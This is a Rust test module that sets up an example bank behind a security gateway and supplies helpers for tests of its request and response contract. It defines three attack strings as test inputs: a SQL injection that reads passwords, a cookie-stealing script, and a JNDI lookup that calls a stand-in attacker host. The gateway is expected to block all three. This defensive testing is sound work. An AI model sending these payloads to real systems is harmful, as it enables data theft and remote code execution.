//! The example bank's contract lessons, through the real gateway with the
//! bank's own config (examples/bank): mass assignment, injected payloads in
//! every location, over-exposed fields and card numbers — each one served by
//! the naive bank alone, and stopped (or cleaned up) by the gateway.
//!
//! This file starts the bank and the gateway and holds the helpers; the
//! lessons are in `bank/requests.rs` (what may come in) and
//! `bank/responses.rs` (what may go out).

mod requests;
mod responses;

use reqwest::Method;
use serde_json::{Value, json};

// The real bank and the gateway in front of it with the bank's real config
// (its API's validation, inspection, responses, CORS and authorization kept as
// they are), as the authorization tests start them.
use crate::authz::bank::{Setup, setup};
use crate::support::*;

/// A SQL injection, a script and a JNDI lookup: none may reach the bank.
const SQLI: &str = "1' UNION SELECT password FROM users--";
const XSS: &str = "<script>alert(document.cookie)</script>";
const JNDI: &str = "${jndi:ldap://evil.example/a}";

#[test]
fn the_bank_config_enforces_its_contract() {
    let real =
        std::fs::read_to_string(format!("{}/portcullis.yaml", crate::authz::bank::BANK)).unwrap();
    for section in [
        "validation",
        "inspection",
        "responses",
        "cors",
        "authorization",
    ] {
        assert!(
            real.contains(&format!("\n    {section}:")),
            "the bank config has `{section}`"
        );
    }
}

/// Alice, a customer with two accounts.
fn alice() -> String {
    token(
        "u-alice",
        json!({ "roles": ["customer"], "accounts": ["acc-1001", "acc-1002"] }),
    )
}

/// The admin, with a second factor.
fn admin() -> String {
    token(
        "u-admin",
        json!({ "roles": ["admin"], "amr": ["pwd", "mfa"] }),
    )
}

impl Setup {
    /// A JSON request to the bank alone: status and JSON.
    async fn direct_send(
        &self,
        method: Method,
        path: &str,
        subject: &str,
        body: Value,
    ) -> (u16, Value) {
        let resp = self
            .direct(method, path, subject)
            .json(&body)
            .send()
            .await
            .unwrap();
        (resp.status().as_u16(), resp.json().await.unwrap())
    }

    /// Every account the bank holds, asked of the bank alone (no subject: all).
    async fn all_accounts(&self) -> Value {
        let resp = client()
            .get(format!("http://{}/v2/accounts", self.bank))
            .send()
            .await
            .unwrap();
        resp.json::<Value>().await.unwrap()["accounts"].clone()
    }

    /// The audit events of routed requests, newest last.
    fn events(&self) -> Vec<Value> {
        self.gw
            .audit_lines()
            .into_iter()
            .filter(|e| e["operation"].is_string())
            .collect()
    }

    /// Waits for the `n`th routed request's audit event and returns it.
    async fn event(&self, n: usize) -> Value {
        eventually("the audit record", || self.events().len() >= n).await;
        self.events().swap_remove(n - 1)
    }

    /// The whole audit log, as text.
    fn audit_text(&self) -> String {
        std::fs::read_to_string(self.gw.dir.path().join("audit.jsonl")).unwrap_or_default()
    }
}

/// The `errors` of a 400 `invalid-request` problem, as (pointer, detail) pairs;
/// the problem quotes none of `sent`.
async fn violations(resp: reqwest::Response, sent: &[&str]) -> Vec<(String, String)> {
    let doc = assert_problem(resp, 400, "invalid-request").await;
    // The request id is random hex: it may contain a numeric marker by chance.
    let mut quoted = doc.clone();
    if let Some(o) = quoted.as_object_mut() {
        o.remove("request_id");
        o.remove("instance");
    }
    let text = quoted.to_string();
    for value in sent {
        assert!(
            !text.contains(value),
            "the problem quotes `{value}`: {text}"
        );
    }
    doc["errors"]
        .as_array()
        .unwrap_or_else(|| panic!("a problem with `errors`: {doc}"))
        .iter()
        .map(|e| {
            let s = |k: &str| {
                e[k].as_str()
                    .unwrap_or_else(|| panic!("`{k}` in {e}"))
                    .to_owned()
            };
            (s("pointer"), s("detail"))
        })
        .collect()
}

/// The detail of the violation at `pointer`, which must be there.
fn detail_at<'a>(errors: &'a [(String, String)], pointer: &str) -> &'a str {
    errors
        .iter()
        .find(|(p, _)| p == pointer)
        .map(|(_, d)| d.as_str())
        .unwrap_or_else(|| panic!("no violation at {pointer}: {errors:?}"))
}
